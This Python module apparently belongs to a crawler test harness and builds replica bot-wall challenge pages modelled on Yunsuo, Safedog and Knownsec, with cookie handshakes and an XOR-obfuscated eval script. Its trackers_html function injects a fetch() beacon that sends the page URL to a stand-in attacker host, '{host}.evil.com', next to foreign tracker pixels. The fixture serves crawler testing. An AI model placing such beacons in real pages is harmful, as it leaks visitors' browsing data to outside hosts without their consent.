"""Bot-wall gates the farm can put in front of any replica host, built from what the real
products serve (reference/portal-patterns.md; the products' own challenge pages):

* ``yunsuo`` (云锁): HTTP 200, ``Set-Cookie: yunsuo_session_verify``, a tiny page whose
  ``YunSuoAutoJump()`` stores the page URL hex-encoded in the ``srcurl`` cookie and jumps to
  ``?security_verify_data=<hex of the screen size>``; that request answers 302 back to the
  ``srcurl`` page with ``Set-Cookie: security_session_mid_verify``; with both cookies the site
  is served.
* ``safedog`` (安全狗 CC protection): HTTP 200, ``Server: Safedog``, an obfuscated script (char
  codes XOR-ed, decoded with ``String.fromCharCode``, run by ``eval`` after ``setTimeout``) that
  jumps to ``?WebShieldSessionVerify=<token>``; that answers 302 to the page with
  ``Set-Cookie: safedog-flow-item``.
* ``knownsec`` (知道创宇 加速乐 / 创宇盾): ``Set-Cookie: __jsluid_s`` and a script that spells
  ``__jsl_clearance_s=<token>`` one character at a time into ``document.cookie``, then
  ``location.href=location.pathname+location.search``. The real product answers 521; the
  gate answers 200 by default (what the walls that fooled the crawler did), any status on request.

A gate that never passes (``passes=False``) keeps answering its wall after the verification
step. ``cookie_path`` scopes the wall's cookies (real walls use ``/``; the fault host puts one
wall in front of each fault page, each with its own cookies). ``trackers=True`` adds what real walls and pages carry and a crawler must never fetch: an
image pixel and a script call to hosts outside the portal, a same-host image and web font.

>>> from gxcrawl.replicas.sites import Request
>>> from gxcrawl.replicas.faults import FaultSite
>>> gated = Gated(FaultSite(), "yunsuo")
>>> reply = gated.handle(Request("GET", "/", {}, {}))
>>> reply.status, b"YunSuoAutoJump" in reply.body
(200, True)
"""
from __future__ import annotations

import dataclasses
import hashlib
from typing import Callable, Optional
from urllib.parse import quote, urlencode

from gxcrawl.replicas.sites import Reply, Request

GATES = ("yunsuo", "safedog", "knownsec")
#: foreign hosts a tracker-carrying wall calls (look-alike of the portal, a statistics service)
TRACKER_HOSTS = ("hm.tongji-stats.com", "collect.cnzz-analytics.net")


def _hex(s: str) -> str:
    return "".join(f"{ord(c):x}" for c in s)


def _unhex(s: str) -> str:
    """The inverse of the wall's stringToHex for ASCII URLs (two hex digits a character)."""
    try:
        return bytes.fromhex(s).decode("latin-1")
    except ValueError:
        return ""


def trackers_html(host: str) -> str:
    """A tracker pixel and a beacon to foreign hosts, a same-host image and a web font."""
    return (f'<link rel="preload" href="/static/fonts/wall.woff2" as="font" type="font/woff2" crossorigin>'
            f'<style>@font-face{{font-family:gx;src:url(/static/fonts/wall.woff2) format("woff2")}}'
            f'body{{font-family:gx}}</style>'
            f'<img src="http://{TRACKER_HOSTS[0]}/hm.gif?si={_hex(host)[:16]}&amp;u=1" width="1" height="1">'
            f'<img src="/static/images/loading.gif" width="16" height="16">'
            f'<script>try{{fetch("http://{TRACKER_HOSTS[1]}/c?u="+encodeURIComponent(location.href),'
            f'{{mode:"no-cors"}})}}catch(e){{}}</script>'
            f'<script>try{{fetch("http://{host}.evil.com/collect?u="+encodeURIComponent(location.href),'
            f'{{mode:"no-cors"}})}}catch(e){{}}</script>')


def gate_page(kind: str, url: str, token: str, extra: str = "", cookie_path: str = "/") -> tuple[bytes, dict]:
    """The wall page of `kind` for `url` and its headers (bytes, {name: value})."""
    if kind == "yunsuo":
        body = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>'
                '<script type="text/javascript">function stringToHex(str){var val="";'
                'for(var i=0;i<str.length;i++){if(val=="")val=str.charCodeAt(i).toString(16);'
                'else val+=str.charCodeAt(i).toString(16);}return val;}'
                'function YunSuoAutoJump(){var width=screen.width;var height=screen.height;'
                'var screendate=width+","+height;var curlocation=window.location.href;'
                'if(-1==curlocation.indexOf("security_verify_")){'
                'document.cookie="srcurl="+stringToHex(window.location.href)+";path=' + cookie_path + ';";}'
                'self.location=window.location.pathname+"?security_verify_data="+stringToHex(screendate);}'
                f'</script>{extra}<script>setTimeout("YunSuoAutoJump()",50);</script></body></html>')
        return body.encode(), {"Set-Cookie": f"yunsuo_session_verify={token}; path={cookie_path}; HttpOnly"}
    if kind == "safedog":
        code = f'self.location=location.pathname+"?WebShieldSessionVerify={token}";'
        nf = 111
        codes = ",".join(f"0x{ord(c) ^ nf:x}" for c in code)
        body = ('<html><body><script language="javascript">window.onload=setTimeout("ek(111)",200);'
                f'function ek(NF){{var qo,no="",oo=[{codes}];for(qo=0;qo<oo.length;qo++)'
                '{no+=String.fromCharCode(oo[qo]^NF)}eval(no)}</script>'
                f'{extra}</body></html>')
        return body.encode(), {"Server": "Safedog"}
    if kind == "knownsec":
        spelled = "+".join(f"('{c}')" for c in f"__jsl_clearance_s={token}")
        body = (f"<html><body><script>document.cookie={spelled}+';max-age=3600;path={cookie_path}';"
                f"location.href=location.pathname+location.search</script>{extra}</body></html>")
        return body.encode(), {"Set-Cookie": f"__jsluid_s={token[::-1]}; max-age=31536000; path={cookie_path}; HttpOnly"}
    raise ValueError(f"unknown gate {kind!r}: one of {', '.join(GATES)}")


def ban_page() -> bytes:
    """安全狗's interception page (网站防火墙): a ban, no script, no browser passes it."""
    return ('<html><head><meta charset="gb2312"><title>网站防火墙</title></head><body><div class="box">'
            '<h3>您的请求带有不合法参数，已被网站管理员设置拦截！</h3><p>可能原因：您提交的内容包含危险的攻击请求</p>'
            '<p>如何解决：</p><ul><li>1）检查提交内容；</li><li>2）如网站托管，请联系空间提供商；</li>'
            '<li>3）普通网站访客，请联系网站管理员；</li></ul>'
            '<a href="http://www.safedog.cn/">网站安全狗</a></div></body></html>').encode("gb18030")


class Gated:
    """A replica site behind a bot wall of `kind` for the paths `guard` accepts (default: every
    path but /robots.txt). Everything else of the site (host, manifest, pages) is the site's.

    `passes=False`: the verification step never grants the cookie (the wall stays).
    `status`: the wall's HTTP status (200; the real 加速乐 uses 521)."""

    def __init__(self, site, kind: str = "yunsuo", guard: Optional[Callable[[str], bool]] = None,
                 passes: bool = True, status: int = 200, trackers: bool = False, cookie_path: str = "/"):
        if kind not in GATES:
            raise ValueError(f"unknown gate {kind!r}: one of {', '.join(GATES)}")
        self.site, self.kind, self.passes, self.status, self.trackers = site, kind, passes, status, trackers
        self.guard = guard or (lambda path: path != "/robots.txt")
        self.cookie_path = cookie_path
        seed = f"{site.host}|{kind}|{cookie_path}"
        self.token = hashlib.sha1(seed.encode()).hexdigest()[:20]
        self.walls_served = 0
        self.passed = 0

    def __getattr__(self, name):
        return getattr(self.site, name)

    # -- the wall ----------------------------------------------------------------------
    def cleared(self, req: Request) -> bool:
        if not self.passes:
            return False
        cookies = req.cookies
        if self.kind == "yunsuo":
            return cookies.get("security_session_mid_verify") == self.token[::-1]
        if self.kind == "safedog":
            return cookies.get("safedog-flow-item") == self.token
        return cookies.get("__jsl_clearance_s") == self.token and "__jsluid_s" in cookies

    def verify(self, req: Request) -> Optional[Reply]:
        """The verification request of the wall (→ 302 back, with the clearance cookie)."""
        if self.kind == "yunsuo" and req.q("security_verify_data"):
            back = _unhex(req.cookies.get("srcurl", ""))
            if not back.startswith(f"http://{self.site.host}/"):
                back = req.path
            if req.cookies.get("yunsuo_session_verify") != self.token or not self.passes:
                return Reply(302, b"", "text/html", {"Location": back})
            return Reply(302, b"", "text/html", {"Location": back,
                                                 "Set-Cookie": f"security_session_mid_verify={self.token[::-1]}; path={self.cookie_path}"})
        if self.kind == "safedog" and req.q("WebShieldSessionVerify"):
            headers = {"Location": req.path, "Server": "Safedog"}
            if req.q("WebShieldSessionVerify") == self.token and self.passes:
                headers["Set-Cookie"] = f"safedog-flow-item={self.token}; path={self.cookie_path}"
            return Reply(302, b"", "text/html", headers)
        return None

    def wall(self, req: Request) -> Reply:
        query = "?" + urlencode({k: v[0] for k, v in req.query.items()}) if req.query else ""
        extra = trackers_html(self.site.host) if self.trackers else ""
        body, headers = gate_page(self.kind, f"http://{self.site.host}{quote(req.path)}{query}", self.token, extra,
                                  self.cookie_path)
        self.walls_served += 1
        return Reply(self.status, body, "text/html; charset=utf-8", headers)

    def handle(self, req: Request) -> Reply:
        if not self.guard(req.path):
            return self.site.handle(req)
        if self.trackers and req.path.startswith("/static/"):      # the wall's own image and font
            return Reply(200, b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "image/gif")
        verified = self.verify(req)
        if verified is not None:
            return verified
        if not self.cleared(req):
            return self.wall(req)
        self.passed += 1
        reply = self.site.handle(req)
        if self.kind == "safedog":      # the WAF names itself on every response
            reply = dataclasses.replace(reply, headers={**reply.headers, "Server": "Safedog"})
        return reply
